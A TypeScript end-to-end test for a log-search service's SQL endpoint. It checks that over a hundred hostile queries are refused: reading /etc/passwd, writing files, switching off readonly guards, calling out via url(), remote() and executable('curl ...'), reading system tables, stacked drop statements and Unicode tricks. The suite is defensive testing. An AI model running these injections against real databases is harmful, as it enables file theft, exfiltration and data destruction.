import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { cloudTrailLine } from '../support/cloudtrail.ts';
import { countRows, querySql } from '../support/lake.ts';
import { eventually, startTestServer, type Refusal, type TestServer } from '../support/server.ts';
import { createHttpSource, sendLines } from '../support/source.ts';

const table = 'panther_logs.public.aws_cloudtrail';

let server: TestServer;
/** Where an attack would write. */
let folder: string;
/** Where an attack would call. */
let listener: Server;
let callCount = 0;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'margay-e2e-sql-'));
  listener = createServer((socket) => {
    callCount++;
    socket.destroy();
  });
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
  server = await startTestServer();
  const sourceId = await createHttpSource(server, 'sql', ['AWS.CloudTrail']);
  await sendLines(server, sourceId, [cloudTrailLine({ eventName: 'First' })]);
  await eventually(
    () => countRows(server, `select count(*) as n from ${table}`),
    (count) => count === 1,
  );
});
afterAll(async () => {
  await server.stop();
  await new Promise((done) => listener.close(done));
  await rm(folder, { recursive: true, force: true });
});

/** `FILE` stands for a path in the folder, `HOST` for the listener's address, `T` for a table that may be read. */
const attacks: Record<string, readonly string[]> = {
  'reading files': [
    `select * from file('/etc/passwd', 'LineAsString', 'line String')`,
    `select * from file('/etc/passwd')`,
    `select file('/etc/passwd')`,
    `select * from T where useragent = (select * from file('/etc/passwd', 'RawBLOB'))`,
    `select * from T, file('/etc/passwd', 'LineAsString')`,
    `select * from T union all select * from file('/etc/passwd', 'LineAsString')`,
    `with f as (select * from file('/etc/passwd', 'LineAsString')) select * from f`,
    `select * from "file"('/etc/passwd')`,
    `select * from FiLe\n(\n'/etc/passwd')`,
    `select * from '/etc/passwd'`,
    `select * from "/etc/passwd"`,
    `select * from fileCluster('c', '/etc/passwd')`,
    `select * from filesystem('/etc')`,
    `select load_file('/etc/passwd')`,
    `select pg_read_file('/etc/passwd')`,
    `select * from @~/stage`,
    `select * from table(file('/etc/passwd'))`,
    `select * from T, lateral file('/etc/passwd')`,
    `select * from table(generator(rowcount => (select count(*) from file('/etc/passwd'))))`,
    `select exists (select * from file('/etc/passwd')) from T`,
  ],
  'writing files': [
    `select * from T into outfile 'FILE'`,
    `select * from T into outfile 'FILE' format CSV`,
    `select 1 into outfile 'FILE' truncate format TSV`,
    `select * into dumpfile 'FILE' from T`,
    `select * into FILE from T`,
    `(select 1 into outfile 'FILE')`,
    `select 1 union all select 2 into outfile 'FILE'`,
    `insert into function file('FILE', 'CSV', 'a Int8') values (1)`,
    `insert into T values (1)`,
    `copy (select 1) to 'FILE'`,
    `backup table T to File('FILE')`,
  ],
  'settings that switch the guards off': [
    `select * from T settings readonly=0`,
    `select * from (select * from T settings readonly=0)`,
    `select (select count(*) from T settings readonly=0, max_execution_time=0)`,
    `select * from T where eventname in (select eventname from T settings readonly=0)`,
    `with x as (select 1 settings allow_ddl=1) select * from x`,
    `select 1 union all (select 2 settings readonly=0)`,
    `select * from T /* */ SETTINGS /* */ readonly /* */ = /* */ 0`,
    `set readonly = 0`,
    `set profile = 'default'`,
    `select * from T format JSON settings readonly=0`,
    `select getSetting('readonly')`,
  ],
  'calling out': [
    `select * from url('http://HOST/x', 'CSV', 'a String')`,
    `select * from url('http://HOST/x')`,
    `select * from s3('http://HOST/bucket/key', 'CSV')`,
    `select * from s3Cluster('c', 'http://HOST/bucket/key')`,
    `select * from gcs('http://HOST/bucket/key')`,
    `select * from azureBlobStorage('http://HOST/', 'c', 'b')`,
    `select * from hdfs('hdfs://HOST/x', 'CSV', 'a String')`,
    `select * from remote('HOST', system.one)`,
    `select * from remoteSecure('HOST', 'system', 'one')`,
    `select * from cluster('default', system.one)`,
    `select * from mysql('HOST', 'd', 't', 'u', 'p')`,
    `select * from postgresql('HOST', 'd', 't', 'u', 'p')`,
    `select * from mongodb('HOST', 'd', 'c', 'u', 'p', 'a String')`,
    `select * from redis('HOST', 'k', 'k String')`,
    `select * from jdbc('jdbc:mysql://HOST/?user=u', 'd', 't')`,
    `select * from odbc('DSN=x', 'd', 't')`,
    `select * from sqlite('FILE', 't')`,
    `select * from iceberg('http://HOST/x')`,
    `select * from deltaLake('http://HOST/x')`,
    `select * from arrowFlight('HOST', 'x')`,
    `select * from executable('curl http://HOST', TSV, 'x String')`,
    `select * from dictionary('d')`,
    `select dictGet('d', 'a', 1)`,
    `select * from T join url('http://HOST/x', 'CSV', 'a String') u on true`,
  ],
  'other databases': [
    `select * from system.tables`,
    `select eventname from T except select name from system.tables`,
    `select name from system.users intersect select eventname from T`,
    `select 1 from T t where exists (select 1 from system.users u where u.name = t.eventname)`,
    `select 1 from T, lateral flatten(input => (select groupArray(name) from system.tables)) f`,
    `select listagg(eventname) within group (order by (select max(name) from system.users)) from T`,
    `select sum(1) over (order by eventname rows between (select 1 from system.one) preceding and current row) from T`,
    `select eventname, count(*) from T group by rollup(eventname, (select name from system.users))`,
    `select * from system.one`,
    `select * from system.processes`,
    `select * from system.query_log`,
    `select * from "system"."settings"`,
    `select * from SYSTEM.TABLES`,
    `select * from system /**/ . /**/ tables`,
    `select * from information_schema.tables`,
    `select * from INFORMATION_SCHEMA.COLUMNS`,
    `select * from default.t`,
    `select * from panther_logs.private.aws_cloudtrail`,
    `select * from panther_logs.public."aws_cloudtrail""; drop table x"`,
    `select * from merge('panther_logs', '.*')`,
    `select * from merge(currentDatabase(), '.*')`,
    `select * from loop(system.one)`,
    `select * from viewExplain('explain', '', (select 1))`,
    `select * from generateRandom('a Int8')`,
    `select * from numbers(1000000000000)`,
    `select * from pg_catalog.pg_class`,
  ],
  'several statements and other statements': [
    `select 1; select 2`,
    `select 1; drop table T`,
    `select 1;\n--\nselect 2`,
    `select 1 ; ; insert into T values (1)`,
    `drop table T`,
    `drop database panther_logs`,
    `truncate table T`,
    `delete from T where true`,
    `alter table T delete where 1 = 1`,
    `alter table T modify setting index_granularity = 1`,
    `update T set useragent = ''`,
    `create table x (a Int8) engine = Memory`,
    `create function f as (x) -> x`,
    `create view v as select 1`,
    `create user x`,
    `rename table T to x`,
    `exchange tables T and T`,
    `attach table x from 'FILE' (a Int8) engine = Memory`,
    `detach table T`,
    `optimize table T final`,
    `kill query where true`,
    `kill mutation where true`,
    `system shutdown`,
    `system reload config`,
    `grant all on *.* to default`,
    `use system`,
    `show tables`,
    `describe T`,
    `explain select 1`,
    `check table T`,
    `exists T`,
    `begin`,
    `execute as default select 1`,
    `with x as (select 1) insert into T select * from x`,
    ``,
    `   \n\t  `,
    `-- only a comment`,
  ],
  'comments, quotes and characters': [
    `/* select 1 */ drop table T`,
    `/*! drop table T */`,
    `select 1 /* not closed`,
    `select /* /* nested */ 1 */ 2 */ from T`,
    `select 1 -- \n; drop table T`,
    `select 'not closed`,
    `select 'a\\' from T`,
    `select "not closed from T`,
    'select `useragent` from T',
    'select * from `system`.`tables`',
    `select ‘a’ from T`,
    `select * from T where useragent = ＇x＇`,
    `select “useragent” from T`,
    `select 1； drop table T`,
    `select\u00a0file('/etc/passwd')`,
    `select 1\u2028; drop table T`,
    `ｓｅｌｅｃｔ 1`,
    `\ufeffdrop table T`,
    `select {p0:String}`,
    `select \${x}`,
    `select :x`,
    `select $1`,
    `select ? from T`,
    `select @@version`,
    `select #1`,
    `select $$not closed`,
  ],
  'what the engine has and the language has not': [
    `select * from T final`,
    `select * from T sample 0.1`,
    `select * from T prewhere 1`,
    `select * from T limit 1 with ties`,
    `select * from T array join p_any_usernames`,
    `select arrayJoin([1])`,
    `select sleep(3)`,
    `select sleepEachRow(3)`,
    `select hostName()`,
    `select version()`,
    `select currentUser()`,
    `select getMacro('x')`,
    `select joinGet('t', 'a', 1)`,
    `select evalMLMethod('m', 1)`,
    `select catboostEvaluate('FILE', 1)`,
    `select addressToLine(1)`,
    `select demangle('x')`,
    `select transactionID()`,
    `select throwIf(1)`,
    `select _part, _path, _file from T`,
    `select p_raw from T`,
    `select * from T where match(useragent, '(a+)+$')`,
    `select columns('.*') from T`,
    `select * except (useragent) from T`,
    `select * replace (1 as useragent) from T`,
    `select x -> x`,
    `select 1::"Int8); drop table x"`,
    `select cast(1 as "AggregateFunction(sum, Int8)")`,
    `with recursive a as (select 1 union all select * from a) select * from a`,
    `select ${'('.repeat(20_000)}1`,
    `select 1${' + 1'.repeat(20_000)}`,
    `${'select * from ('.repeat(5000)}select 1${')'.repeat(5000)}`,
  ],
};

const Place = z.object({ line: z.int(), column: z.int() });

function textOf(attack: string): string {
  const { port } = listener.address() as AddressInfo; // it listens on a TCP port
  return attack
    .replaceAll(/\bT\b/g, table)
    .replaceAll('FILE', join(folder, 'written'))
    .replaceAll('HOST', `127.0.0.1:${port}`);
}

const run = 'mutation ($input: RunQueryInput!) { runQuery(input: $input) { rows } }';
const start = `mutation ($input: ExecuteUberSearchInput!) { executeUberSearch(input: $input) { queryID } }`;
const refusedByRun = (text: string) => server.refusals(run, { input: { language: 'sql', text } });
const refusedByStart = (text: string) =>
  server.refusals(start, { input: { params: { language: 'sql', filters: text } } });

/** Refused for what it says, at a place that exists in the text, in words that tell nothing of the engine. */
function expectRefusal(text: string, refusals: readonly Refusal[]): void {
  expect(refusals, 'it was not refused').toHaveLength(1);
  const [refusal] = refusals;
  expect(refusal?.extensions).toMatchObject({ code: 'InvalidInput', statusCode: 400 });
  expect(refusal?.message).not.toMatch(/clickhouse|chdb|code: \d+|exception|root:/i);
  const { line, column } = Place.parse(refusal?.extensions['details']);
  const lines = text.split('\n');
  expect(line).toBeGreaterThan(0);
  expect(line).toBeLessThanOrEqual(lines.length);
  expect(column).toBeGreaterThan(0);
  expect(column).toBeLessThanOrEqual((lines[line - 1]?.length ?? 0) + 1);
}

describe.each(Object.entries(attacks))('%s', (_kind, texts) => {
  it.each(texts.map((attack) => [JSON.stringify(attack).slice(0, 100), attack]))(
    'is refused: %s',
    async (_title, attack) => {
      const text = textOf(attack);
      expectRefusal(text, await refusedByRun(text));
      expectRefusal(text, await refusedByStart(text));
    },
  );
});

describe('a NUL', () => {
  // Every search is kept in the history, which is text of the state store and holds no NUL.
  it.each(['select \0 1', 'select 1 \0; drop table T', `select '\0' as x from T`])(
    'is refused: %j',
    async (attack) => {
      const text = textOf(attack);
      const [started] = await refusedByStart(text);
      expect(started).toMatchObject({
        message: 'The search cannot run: filters must not hold the NUL character.',
        extensions: { code: 'InvalidInput', details: { field: 'filters' } },
      });
      const [ran] = await refusedByRun(text);
      expect(ran?.extensions).toMatchObject({ code: 'InvalidInput', statusCode: 400 });
    },
  );
});

describe('afterwards', () => {
  it('the list was worth the name', () => {
    expect(Object.values(attacks).flat().length).toBeGreaterThan(100);
  });

  it('nothing was written, nobody was called, nothing changed', async () => {
    expect(await readdir(folder)).toEqual([]);
    expect(callCount).toBe(0);
    expect(await querySql(server, `select eventname, useragent from ${table}`)).toEqual([
      { eventName: 'First', userAgent: 'aws-cli/2.15.0' },
    ]);
  });

  it('ordinary queries work, with hostile text as plain data', async () => {
    const text = `'; drop table x; -- */ settings readonly=0 “” \u{1d4b3} \\`;
    const [row] = await querySql(
      server,
      `select '${text.replaceAll("'", "''").replaceAll('\\', '\\\\')}' as "a""; drop", count(*) as n from ${table};`,
    );
    expect(row).toEqual({ 'a"; drop': text, n: 1 });
    const { executeUberSearch } = await server.graphql<{ executeUberSearch: { queryID: string } }>(start, {
      input: { params: { language: 'sql', filters: `select eventname from ${table}` } },
    });
    const { uberSearch } = await eventually(
      () =>
        server.graphql<{
          uberSearch: { status: string; results: { edges: { node: unknown }[] } | null };
        }>(
          'query ($id: ID!) { uberSearch(id: $id, component: detailsDescending) { status results { edges { node } } } }',
          { id: executeUberSearch.queryID },
        ),
      ({ uberSearch: search }) => search.status !== 'running',
    );
    expect(uberSearch).toMatchObject({
      status: 'succeeded',
      results: { edges: [{ node: { eventName: 'First' } }] },
    });
  });

  it('the listener would have noticed a call', async () => {
    const { port } = listener.address() as AddressInfo; // it listens on a TCP port
    await fetch(`http://127.0.0.1:${port}/`).catch(() => undefined);
    expect(callCount).toBe(1);
  });
});
